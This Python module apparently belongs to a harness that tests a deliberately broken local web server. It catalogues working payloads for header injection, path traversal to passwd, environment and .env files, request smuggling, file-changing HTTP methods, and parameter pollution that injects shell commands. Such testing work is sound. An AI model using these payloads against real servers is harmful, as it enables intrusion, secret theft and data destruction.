"""What HTTP is made of: headers, paths, where a request ends, methods, parameters twice."""

import re

from classes.shells import leaked
from model import AttackClass, Raw, encoded, one_by_one

# --- lines of headers -----------------------------------------------------------------------------

SPLITS = {
    "a new line": "x\r\nX-{mark}: 1",
    "a line feed alone": "x\nX-{mark}: 1",
    "two lines": "x\r\nX-A: 1\r\nX-{mark}: 1",
    "a cookie": "x\r\nSet-Cookie: {mark}=1",
    "a place": "x\r\nLocation: //{mark}.test",
    "a type": "x\r\nContent-Type: text/html;x={mark}",
    "an answer of its own": "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-{mark}: 1\r\n\r\n",
    "a body": "x\r\n\r\n<p>{mark}",
    "folded": "x\r\n X: 1\r\nX-{mark}: 1",
    "an overlong line feed": Raw("x%c0%8aX-{mark}:%201"),
    "both, overlong": Raw("x%c0%8d%c0%8aX-{mark}:%201"),
    "three bytes": Raw("x%e0%80%8aX-{mark}:%201"),
    "encoded twice": Raw("x%250d%250aX-{mark}:%201"),
    "encoded twice, line feed": Raw("x%250aX-{mark}:%201"),
    "capital letters": Raw("x%0D%0AX-{mark}:%201"),
    "a blank line first": "\r\n\r\nX-{mark}: 1",
}
PLACES = {
    "the name": "/?name={value}",
    "the address": "/ping?ip={value}",
    "where to": "/console?next={value}",
}


def split(target, row):
    path, text = row.payload
    filled = text.replace("{mark}", row.mark)
    value = filled if isinstance(text, Raw) else encoded(filled)
    answer = target.raw(f"GET {path.replace('{value}', value)} HTTP/1.1\r\nHost: localhost\r\n"
                        "Connection: close\r\n\r\n".encode(), timeout=10)
    head, _, body = answer.partition(b"\r\n\r\n")
    names = [line.partition(b":")[0] for line in re.split(b"\r?\n", head)[1:]]
    mark = row.mark.encode()
    if any(mark in name for name in names):
        return "a header of its own"
    if any(mark in line for line in re.split(b"\r?\n", head)
           if line.lower().startswith((b"set-cookie: " + mark, b"location: //", b"content-type:"))):
        return "a header's value of its own"
    return "a body of its own" if body.startswith((b"<p>" + mark, b"HTTP/1.1 200")) else ""


def split_attempts():
    made = {f"{place}: {what}": (path, text) for what, text in SPLITS.items()
            for place, path in list(PLACES.items())[:1 if "three" in what else 2]}
    return made | {f"where to: {what}": (PLACES["where to"], SPLITS[what])
                   for what in ("a new line", "a cookie", "a body", "encoded twice")}


# --- paths ----------------------------------------------------------------------------------------

def climb(step, times=12):
    return "/console/" + step * times


DOTS = {
    "two dots": "../",
    "encoded dots": "%2e%2e/",
    "an encoded slash": "..%2f",
    "all encoded": "%2e%2e%2f",
    "encoded twice": "%252e%252e%252f",
    "a slash, twice": "..%252f",
    "an overlong slash": "..%c0%af",
    "overlong dots": "%c0%ae%c0%ae/",
    "three bytes": "%e0%80%ae%e0%80%ae%e0%80%af",
    "a backslash": "..\\",
    "an encoded backslash": "..%5c",
    "a backslash, twice": "..%255c",
    "two slashes": "..//",
    "a dot between": ".././",
    "one dot encoded": ".%2e/",
    "capitals": "%2E%2E%2F",
}
FILES = {f"{what}: the secret": climb(step) + "{path}" for what, step in DOTS.items()} | {
    f"{what}: passwd": climb(step) + "etc/passwd" for what, step in list(DOTS.items())[:11]} | {
    "no folder first": "/../../../../../../../../etc/passwd",
    "of a route": "/console../pages.py",
    "of a route, its configuration": "/console../nginx.conf",
    "the source": "/console/../pages.py", "the passwords": "/console/../door.py",
    "the settings": "/console/../.env", "a list of files": "/console/../",
    "the environment": climb("../") + "proc/self/environ",
    "its command line": climb("../") + "proc/self/cmdline",
    "its maps": climb("../") + "proc/self/maps",
    "the secret, cut by a NUL": climb("../") + "{path}%00.html",
    "the secret, by proc": climb("../") + "proc/self/root/{path}",
    "the secret, by its folder": climb("../") + "{path}/../secret.txt",
    "the state's password": climb("../") + "{state}/password",
    "the state's other one": climb("../") + "{state}/password.txt",
    "the state's log": climb("../") + "{state}/access.log",
}
FILE_SIGNS = (b"root:x:0:0", b"DELIBERATELY BROKEN", b"SECRET_KEY=", b"pages.py", b"-S\0",
              b" r-xp ", b"GET / ", b"ssl_protocols", b"worker_connections")


def climb_out(target, row):
    path = (row.payload.replace("{path}", str(target.scene.secret_file)[1:])
            .replace("{state}", str(target.state)[1:]))
    target.ask("/")  # a line of the log
    answer = target.ask(path, timeout=10)
    sign = next((sign for sign in FILE_SIGNS if sign in answer.body), b"")
    return f"what is in a file: {sign.decode()!r}" if sign else leaked(target, answer.body)


# --- where a request ends -------------------------------------------------------------------------

HIDDEN = "GET /?name={mark} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
CHUNKED = "Transfer-Encoding: chunked"
ENDS = {
    "within the length": "Content-Length: {length}\r\n\r\n{hidden}",
    "within a length with a sign": "Content-Length: +{length}\r\n\r\n{hidden}",
    "within a hexadecimal length": "Content-Length: 0x{hex}\r\n\r\n{hidden}",
    "within a length with a blank": "Content-Length : {length}\r\n\r\n{hidden}",
    "within a length with a comma": "Content-Length: {length}, {length}\r\n\r\n{hidden}",
    "within the first of two lengths": "Content-Length: {length}\r\nContent-Length: 0\r\n\r\n"
                                       "{hidden}",
    "within the second of two": "Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{hidden}",
    "within an underscored length": "Content_Length: 0\r\nContent-Length: {length}\r\n\r\n{hidden}",
    "within a chunk": CHUNKED + "\r\n\r\n{hex}\r\n{hidden}\r\n0\r\n\r\n",
    "within a chunk with an extension": CHUNKED + "\r\n\r\n{hex};x=y\r\n{hidden}\r\n0\r\n\r\n",
    "behind an empty chunk, a length over it": "Content-Length: {over}\r\n" + CHUNKED +
                                               "\r\n\r\n0\r\n\r\n{hidden}",
    "chunked first, then a length": CHUNKED + "\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n{hidden}",
    "chunked in capitals": "Transfer-Encoding: CHUNKED\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                           "{hidden}",
    "chunked with a blank": "Transfer-Encoding : chunked\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                            "{hidden}",
    "chunked behind a tab": "Transfer-Encoding:\tchunked\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                            "{hidden}",
    "chunked behind a VT": "Transfer-Encoding:\x0bchunked\r\nContent-Length: {over}\r\n\r\n0\r\n"
                           "\r\n{hidden}",
    "chunked in quotes": "Transfer-Encoding: \"chunked\"\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                         "{hidden}",
    "chunked twice": CHUNKED + "\r\n" + CHUNKED + "\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                     "{hidden}",
    "chunked and identity": CHUNKED + ", identity\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                            "{hidden}",
    "chunked, folded": "Transfer-Encoding:\r\n chunked\r\nContent-Length: {over}\r\n\r\n0\r\n\r\n"
                       "{hidden}",
    "chunked, by an underscore": "Transfer_Encoding: chunked\r\nContent-Length: {over}\r\n\r\n0\r\n"
                                 "\r\n{hidden}",
    "within a trailer": CHUNKED + "\r\n\r\n0\r\nX: {hidden}",
    "behind a carriage return": "X: a\rContent-Length: {length}\r\n\r\n{hidden}",
    "an expectation": "Expect: 100-continue\r\nContent-Length: {length}\r\n\r\n{hidden}",
    "an upgrade": "Upgrade: h2c\r\nConnection: Upgrade\r\nContent-Length: {length}\r\n\r\n{hidden}",
    "a method override": "X-HTTP-Method-Override: POST\r\nContent-Length: {length}\r\n\r\n{hidden}",
}


def smuggle(target, row):
    """What one reads as a body and another as a request was answered: it greets."""
    hidden = HIDDEN.replace("{mark}", row.mark)
    rest = row.payload
    for name, value in {"{length}": len(hidden), "{hex}": f"{len(hidden):x}",
                        "{over}": len(hidden) + 5, "{hidden}": hidden}.items():
        rest = rest.replace(name, str(value))
    data = target.raw(f"GET / HTTP/1.1\r\nHost: localhost\r\n{rest}".encode("latin-1"), timeout=2)
    return "the request within was answered" if f"Hello, {row.mark}".encode() in data else ""


# --- methods --------------------------------------------------------------------------------------

METHODS = {
    "PUT of a file": ("PUT", climb("../") + "{file}", {}),
    "PUT of a file, encoded": ("PUT", climb("%2e%2e/") + "{file}", {}),
    "PUT, overridden": ("POST", climb("../") + "{file}", {"X_HTTP_Method_Override": "PUT"}),
    "PUT, in small letters": ("put", climb("../") + "{file}", {}),
    "PATCH": ("PATCH", climb("../") + "{file}", {}),
    "COPY": ("COPY", climb("../") + "{file}", {"Destination": "/x"}),
    "MOVE": ("MOVE", climb("../") + "{file}", {"Destination": "/x"}),
    "GET, overridden": ("GET", climb("../") + "{file}", {"X_HTTP_Method_Override": "PUT"}),
    "DELETE of a file": ("DELETE", climb("../") + "{victim}", {}),
    "DELETE, overridden": ("POST", climb("../") + "{victim}", {"X_HTTP_Method_Override": "DELETE"}),
    "TRACE, which tells a cookie": ("TRACE", "/", {"Cookie": "x={mark}"}),
    "TRACE, which tells a password": ("TRACE", "/audit", {"Authorization": "Basic {mark}"}),
    "POST in place of GET": ("POST", "/?name={mark}", {}),
    "HEAD in place of GET": ("HEAD", "/audit", {}),
}


def use_method(target, row):
    method, path, headers = row.payload
    victim = target.scene.canaries / f"victim-{row.mark}"
    victim.write_text("here")
    victim.chmod(0o666)
    for name, value in {"{file}": str(target.scene.file_of(row))[1:], "{victim}": str(victim)[1:],
                        "{mark}": row.mark}.items():
        path = path.replace(name, value)
    has_body = method in ("PUT", "put", "PATCH", "COPY", "MOVE")
    answer = target.ask(path, method, b"x" if has_body else b"",
                        **{name: value.replace("{mark}", row.mark)
                           for name, value in headers.items()})
    if method == "TRACE":
        return "it tells" if row.mark.encode() in answer.body else ""
    if method == "HEAD":
        return "no password was asked for" if answer.status == 200 else ""
    if method == "POST" and path.startswith("/?"):
        return "it was taken" if f"Hello, {row.mark}".encode() in answer.body else ""
    return target.scene.was_done(row) or ("" if victim.exists() else "the file is gone")


# --- parameters twice -----------------------------------------------------------------------------

TWICE = {
    "a second address": Raw("ip=127.0.0.1&ip=;touch%20{file}"),
    "the first of two": Raw("ip=;touch%20{file};&ip=127.0.0.1"),
    "in three pieces": Raw("ip=;&ip=touch&ip={file}"),
    "a semicolon between": Raw("ip=127.0.0.1;ip=;touch%20{file}"),
    "in capitals": Raw("ip=127.0.0.1&IP=;touch%20{file}"),
    "as a list": Raw("ip=127.0.0.1&ip[]=;touch%20{file}"),
    "a list alone": Raw("ip[]=;touch%20{file}"),
    "an encoded name": Raw("ip=127.0.0.1&%69%70=;touch%20{file}"),
    "a blank behind the name": Raw("ip=127.0.0.1&ip%20=;touch%20{file}"),
    "a blank before": Raw("ip=127.0.0.1&%20ip=;touch%20{file}"),
    "an encoded and": Raw("ip=127.0.0.1%26ip=;touch%20{file}"),
    "an encoded equals sign": Raw("ip=127.0.0.1&ip%3D=;touch%20{file}"),
    "a question mark": Raw("ip=127.0.0.1?&ip=;touch%20{file}"),
    "an empty one first": Raw("ip=&ip=;touch%20{file}"),
    "a name encoded twice": Raw("%2569%2570=;touch%20{file}"),
    "ten of them": Raw("ip=127.0.0.1&" * 9 + "ip=;touch%20{file}"),
}


def ask_twice(target, row):
    query = target.scene.fill(row.payload, row)
    target.ask(f"/ping?{query}", timeout=10)
    return target.scene.was_done(row)


CLASSES = [
    AttackClass("header-injection", "Lines of headers", ["passed-on-changed", "page-runs-text"],
                "edge", "a header, a value or a body of the attacker's in the answer",
                split_attempts(), one_by_one(split)),
    AttackClass("path-traversal", "Paths out of their folder", ["edge-shows", "secrets-read"],
                "edge", "what is in a file that is not served", FILES, one_by_one(climb_out)),
    AttackClass("request-smuggling", "Requests within requests", ["smuggling"], "edge",
                "the answer to a request that is part of a body", ENDS, one_by_one(smuggle)),
    AttackClass("methods", "Methods that change or tell", ["edge-shows", "state-changed"], "edge",
                "a file that was made or removed, a header that is told, a route that does not "
                "take it", METHODS, one_by_one(use_method)),
    AttackClass("parameter-pollution", "Parameters twice", ["command-injection", "broken-fastcgi"],
                "validation", "a file that a command made", TWICE, one_by_one(ask_twice)),
]
